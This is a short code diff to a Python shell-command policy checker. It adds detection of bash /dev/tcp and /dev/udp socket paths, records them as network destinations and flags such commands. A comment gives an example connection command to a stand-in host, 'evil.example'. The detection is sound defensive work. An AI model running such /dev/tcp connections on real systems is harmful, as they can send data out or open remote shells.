@@ -8,6 +8,8 @@ from app.policy.rules.variables import Bindings
 from app.policy.rules.words import UNKNOWN, Word, with_unknowns
 from app.policy.rules.wrappers import OUTPUT_OPTIONS, URL_COMMANDS
 
+_SOCKETS = ("/dev/tcp/", "/dev/udp/")
+
 
 class Collector:
     """The walker's word-level part: every word of a simple command but its name is a path
@@ -77,8 +79,14 @@ class Collector:
         if text.startswith("-") and "@" in text:
             parts.append(text.split("@", 1)[1])
         for part in parts:
+            if part.startswith(_SOCKETS):  # bash connects: `cat < /dev/tcp/evil.example/80`
+                self.urls["tcp://" + part[9:].replace("/", ":", 1)] = None
+                self.hide("a /dev/tcp or /dev/udp connection")
             if part:
                 self.paths[(part, dynamic)] = None
+
+    def hide(self, why: str) -> None:
+        raise NotImplementedError  # the walker's: no classify rule may apply
 
 
 def _names_output(text: str, outputs: frozenset[str]) -> bool:
